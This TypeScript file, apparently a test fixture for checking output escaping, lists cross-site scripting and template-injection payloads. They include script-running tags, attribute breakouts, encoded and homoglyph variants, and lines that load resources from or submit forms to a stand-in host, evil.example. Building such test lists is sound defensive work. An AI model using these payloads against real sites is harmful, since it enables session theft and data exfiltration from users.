/**
 * Strings that would run a script, load a resource or change the markup if a page printed them unescaped. They contain
 * no white space and have at most 64 characters, so every text field accepts them. Injected markup has the attribute
 * `pwn`; injected scripts call `pwned()`.
 */

/** Elements that run a script or load a resource, on page load or when a user interacts with them. */
export const MARKUP_ELEMENTS = [
  '<script/pwn>pwned()</script>',
  '<img/pwn/src=x/onerror=pwned()>',
  '<svg/pwn/onload=pwned()>',
  '<svg><script/pwn>pwned()</script>',
  '<svg><a/pwn/href=javascript:pwned()>',
  '<math><mtext><img/pwn/src=x/onerror=pwned()>',
  '<iframe/pwn/src=javascript:pwned()>',
  '<iframe/pwn/srcdoc=&lt;script&gt;pwned()>',
  '<object/pwn/data=//evil.example>',
  '<embed/pwn/src=//evil.example>',
  '<video/pwn/src=x/onerror=pwned()>',
  '<input/pwn/autofocus/onfocus=pwned()>',
  '<details/pwn/open/ontoggle=pwned()>',
  '<a/pwn/href=javascript:pwned()>x',
  '<a/pwn/href=data:text/html,x>x',
  '<form/pwn/action=//evil.example><button>',
  '<style/pwn>@import"//evil.example";</style>',
  '<link/pwn/rel=stylesheet/href=//evil.example>',
  '<div/pwn/hx-get=/l/x/hx-trigger=load>',
  '<div/pwn/hx-on:htmx:load=pwned()>',
] as const;

/** Strings that close the surrounding attribute, comment or element. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</select>',
  '--></style>',
  '</script>',
] as const;

const ATTRIBUTES = ['"', "'"].flatMap((quotation) => [
  `${quotation}pwn/autofocus/onfocus=pwned()/x=${quotation}`,
  `${quotation}pwn/onmouseover=pwned()/x=${quotation}`,
  `${quotation}/pwn/style=background:url(//evil.example)/x=${quotation}`,
]);

/** Encoded markup, URLs and template code. Pages must not decode text twice or turn it into a link. */
const REST = [
  '&lt;img/pwn/src=x/onerror=pwned()&gt;',
  '&amp;lt;script/pwn&amp;gt;pwned()',
  '&#60;img/pwn/src=x/onerror=pwned()&#62;',
  '&#x3c;svg/pwn/onload=pwned()&#x3e;',
  '%3Cscript/pwn%3Epwned()%3C/script%3E',
  '%253Csvg/pwn/onload=pwned()%253E',
  '\\u003cimg/pwn/src=x/onerror=pwned()\\u003e',
  '\\x3cscript/pwn\\x3epwned()',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//',
  'javascript://evil.example/%0apwned()',
  'data:text/html,<script/pwn>pwned()</script>',
  'vbscript:pwned()',
  '//evil.example/pwn',
  '\\\\evil.example\\pwn',
  'https://evil.example/"/pwn/onfocus="pwned()',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for template engines
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '#{pwned()}',
  '<%=pwned()%>',
  '*{pwned()}',
  '`-pwned()-`',
  "';pwned();//",
  '";pwned();//',
  '</script><script/pwn>pwned()//',
  '<!--><img/pwn/src=x/onerror=pwned()>-->',
  '<![CDATA[<img/pwn/src=x/onerror=pwned()>]]>',
  '<?xml?><svg/pwn/onload=pwned()>',
  '＜img/pwn/src=x/onerror=pwned()＞',
  '＂onfocus=pwned()/pwn＂',
  'ʺ＞<img/pwn/src=x/onerror=pwned()>',
  '‹script/pwn›pwned()‹/script›',
  '<scr<script/pwn>ipt>pwned()</script>',
  '<IMG/PWN/SRC=x/ONERROR=pwned()>',
] as const;

/** Payloads that change the markup of a page if the page prints them unescaped as text. */
export const MARKUP_PAYLOADS: readonly string[] = MARKUP_ELEMENTS.flatMap((element) =>
  WAYS_OUT.map((way) => way + element),
);

export const SCRIPT_PAYLOADS: readonly string[] = [...MARKUP_PAYLOADS, ...ATTRIBUTES, ...REST];
